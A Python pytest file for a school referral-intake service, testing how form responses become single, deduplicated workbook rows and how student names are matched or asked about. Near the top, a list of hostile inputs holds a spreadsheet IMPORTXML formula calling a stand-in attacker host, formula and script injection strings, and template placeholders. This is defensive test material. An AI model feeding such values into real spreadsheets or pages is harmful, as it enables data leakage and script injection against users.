"""A form response becomes a referral: once, in the right workbook, and with nothing guessed."""

from dataclasses import replace
from datetime import timedelta

import pytest

from service.casework.records import OFFICE
from service.casework.referrals import intake
from service.casework.referrals.context import Wanted

from .referral_office import NOW, Office, case, response

HOSTILE = [
    '=IMPORTXML("https://evil.example","//x")',
    "+1-1",
    "<script>alert(1)</script><b>Ana</b>",
    "{{ config }} {% for x in y %} {name} {0} %s",
    "\u202eanA avliS\u202c مرحبا",
    "nul\x00 bell\x07 tab\t\nline",
    "\ud83d lone half",
    "x" * 50_000,
    "😀" * 50_000,
]


def test_one_response_is_one_row_with_everything_the_coordinator_needs():
    office = Office().receive(
        response(
            respondent="nora@school.example",
            form="inside",
            student_name="Mei Chen",
            grade="5",
            relationship="Staff",
            concern="Cries before school.",
            strengths="Draws.",
            tried="Talked after class.",
            urgency="Today",
            they_know="Both know",
            reach="room 12",
            language="English",
        )
    )
    row = office.office()
    assert row["student_as_written"] == "Mei Chen"
    assert row["student"] == "Chen Mei"
    assert row["referred_by"] == "Nora Lind · nora@school.example, room 12 · English"
    assert row["concern"] == "Cries before school."
    assert row["details"].splitlines() == [
        "Grade: 5",
        "What goes well: Draws.",
        "What has been tried: Talked after class.",
        "Do they know: Both know",
    ]
    assert (row["urgency"], row["relationship"], row["status"]) == ("Today", "Staff", "New")
    assert row["tell_referrer"] == "Progress"
    assert row["already_open"] == ""
    assert row["suggested"] in ("Dana Whitfield", "Kwame Boateng")
    assert "20" in row["why"]
    assert row["acknowledged"] == "Sent Wed 14 Oct"
    assert not office.problems


def test_twice_the_same_response_is_still_one_row_and_one_mail():
    office = Office().receive(response(reach="a@x.example"))
    before = (dict(office.referrals), dict(office.messages))
    office.receive(response(reach="a@x.example")).sync()
    assert (office.referrals, office.messages) == before
    assert list(office.messages) == ["ack:R-0031"]


def test_a_row_that_a_person_deleted_is_not_made_again():
    office = Office().receive(response(reach="a@x.example"))
    del office.referrals[OFFICE, "R-0031"]
    office.sync()
    assert not office.referrals
    assert len(office.messages) == 1
    assert intake.receive(response(reach="a@x.example"), "R-0099", office.desk) == Wanted()


def test_a_student_whom_the_coordinator_took_out_is_asked_for_and_not_put_back():
    office = Office(cases=[case()]).receive(response()).type("R-0031", student="")
    assert office.office()["student"] == office.office()["already_open"] == ""
    assert office.asked()["R-0031:which_student"].pick == ("Chen Mei · grade 5 · 0031",)


def test_an_edited_response_changes_service_cells_and_nothing_a_person_typed():
    office = Office().receive(response(concern="First", student_name="Chen Mei"))
    office.type("R-0031", student="Ana Silva · 0142", our_urgency="Soon", tell_referrer="Progress")
    later = NOW + timedelta(hours=1)
    edited = response(concern="Second", student_name="Siobhan OConnor", reach="b@x.example")
    office.receive(replace(edited, last_submitted=later))
    row = office.office()
    assert row["concern"] == "Second"
    assert row["student_as_written"] == "Siobhan OConnor"
    assert (row["student"], row["our_urgency"]) == ("Ana Silva · 0142", "Soon")
    assert "Changed by the referrer on Wed 14 Oct 11:30" in row["details"]
    assert list(office.messages) == ["ack:R-0031"]  # now that there is an address
    assert row["acknowledged"] == "Sent Wed 14 Oct"


@pytest.mark.parametrize(
    ("written", "grade", "student", "pick"),
    [
        ("chen mei", "", "Chen Mei", None),
        ("Ana Silva", "11", "Ana Silva · 0177", None),
        ("Ana Silva", "", "", ("Ana Silva · grade 9 · 0142", "Ana Silva · grade 11 · 0177")),
        ("sister of Chen Mei", "", "", ("Chen Mei · grade 5 · 0031",)),
        ("Chen Mai", "5", "", ("Chen Mei · grade 5 · 0031",)),
        ("Chen Mei", "11", "", ("Chen Mei · grade 5 · 0031",)),
        ("Ana Silva · 0142", "", "Ana Silva · 0142", None),
        ("Zebedee Quux", "", "", ()),
        ("", "", "", ()),
    ],
)
def test_a_name_is_settled_or_asked_never_guessed(written, grade, student, pick):
    office = Office().receive(response(student_name=written, grade=grade))
    assert office.office()["student"] == student
    question = office.asked().get("R-0031:which_student")
    assert (question.pick if question else None) == pick
    if question:
        assert question.column == "student"
        assert question.row.row_id == "R-0031"


def test_a_pick_settles_the_question():
    office = Office().receive(response(student_name="Ana Silva"))
    office.picks["R-0031:which_student"] = "Ana Silva · grade 11 · 0177"
    office.sync()
    assert office.office()["student"] == "Ana Silva · 0177"
    assert not office.problems


def test_what_is_open_already_is_said_and_then_nobody_is_suggested():
    office = Office(cases=[case()]).receive(response(), response(number=2))
    row = office.office("R-0032")
    assert row["already_open"] == "C-0007 · Kwame Boateng · Active; also R-0031"
    assert row["suggested"] == row["why"] == ""
    office.change_case("C-0007", status="Exited")
    assert office.office("R-0032")["already_open"] == "also R-0031"
    assert office.office("R-0032")["suggested"]


def test_a_student_typed_later_brings_the_desk_up_to_date():
    office = Office(cases=[case("C-0009", "Ana Silva · 0142", "0142")])
    office.receive(response(student_name="the tall one"))
    assert "R-0031:which_student" in office.asked()
    office.type("R-0031", student="Ana Silva · 0142")
    assert office.office()["already_open"].startswith("C-0009")
    assert not office.problems


@pytest.mark.parametrize(
    ("form", "respondent", "relationship", "tell"),
    [
        ("inside", "nora@school.example", "Staff", "Progress"),
        ("inside", "nora@school.example", "", "Progress"),
        ("inside", "a.pupil@school.example", "Staff", "Received only"),
        ("inside", "a.pupil@school.example", "The student", "Received only"),
        ("outside", "", "Parent or guardian", "Progress"),
        ("outside", "", "Family", "Received only"),
        ("outside", "", "Community", "Received only"),
        ("outside", "", "", "Received only"),
    ],
)
def test_only_staff_and_guardians_are_told_more_by_default(form, respondent, relationship, tell):
    office = Office().receive(response(form=form, respondent=respondent, relationship=relationship))
    assert office.office()["tell_referrer"] == tell
